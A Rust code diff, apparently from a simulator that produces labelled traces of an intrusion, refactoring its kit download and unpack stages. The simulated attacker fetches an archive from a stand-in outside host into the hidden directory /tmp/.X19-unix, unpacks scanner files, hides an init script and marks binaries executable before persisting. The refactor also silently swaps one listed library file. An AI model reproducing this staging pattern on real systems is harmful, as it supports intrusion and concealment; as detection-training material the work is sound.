@@ -34,6 +34,17 @@ const LABELS: LoginLabels = LoginLabels {
     shell: Label::Evil,
 };
 const KIT: &str = "/tmp/.X19-unix";
+const ARCHIVE: &str = "kit.tar.gz";
+const KIT_FILES: [&str; 8] = [
+    "run",
+    "sweepd",
+    "targets",
+    "stop",
+    "lib/libc.so.6",
+    "lib/libm.so.6",
+    "init",
+    "upd",
+];
 const THREADS: usize = 100;
 /// The most calls the scanner makes in one step.
 const BURST: u64 = 4_000;
@@ -219,7 +230,7 @@ fn download(host: &mut Host<'_, '_>, session: Session) -> Stage {
             let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
             let server = host.internet([198, 51, 100, 77], 80);
             host.connect(task, fd, &server, 0);
-            host.write(task, &format!("{KIT}/kit.tar.gz"), CREATE);
+            host.write(task, &format!("{KIT}/{ARCHIVE}"), CREATE);
             host.close(task, fd);
         },
     );
@@ -237,40 +248,22 @@ fn resolve_name(host: &mut Host<'_, '_>, task: Task) {
 }
 
 fn unpack(host: &mut Host<'_, '_>, session: Session) -> Stage {
-    host.command_with(
-        session.shell,
-        &tools::TAR,
-        &["xzf", "kit.tar.gz"],
-        |host, task| {
-            host.read(task, &format!("{KIT}/kit.tar.gz"));
-            host.run(task, &tools::GZIP, &["-d"]);
-            for file in [
-                "run",
-                "sweepd",
-                "targets",
-                "stop",
-                "lib/libc.so.6",
-                "lib/libpthread.so.0",
-                "init",
-                "upd",
-            ] {
-                let path = format!("{KIT}/{file}");
-                host.unlink_missing(task, &path);
-                host.write_private(task, &path);
-                host.lchown(task, &path, INTRUDER.user);
-            }
-        },
-    );
-    host.command_with(
-        session.shell,
-        &tools::RM,
-        &["-f", "kit.tar.gz"],
-        |host, task| {
-            host.unlinkat(task, KIT, "kit.tar.gz");
-        },
-    );
-    host.command(session.shell, &tools::MV, &["init", ".init"]);
-    host.command(session.shell, &tools::CHMOD, &["+x", "run", "sweepd"]);
+    let shell = session.shell;
+    host.command_with(shell, &tools::TAR, &["xzf", ARCHIVE], |host, task| {
+        host.read(task, &format!("{KIT}/{ARCHIVE}"));
+        host.run(task, &tools::GZIP, &["-d"]);
+        for file in KIT_FILES {
+            let path = format!("{KIT}/{file}");
+            host.unlink_missing(task, &path);
+            host.write_private(task, &path);
+            host.lchown(task, &path, INTRUDER.user);
+        }
+    });
+    host.command_with(shell, &tools::RM, &["-f", ARCHIVE], |host, task| {
+        host.unlinkat(task, KIT, ARCHIVE);
+    });
+    host.command(shell, &tools::MV, &["init", ".init"]);
+    host.command(shell, &tools::CHMOD, &["+x", "run", "sweepd"]);
     Stage::Persisting(session)
 }
 
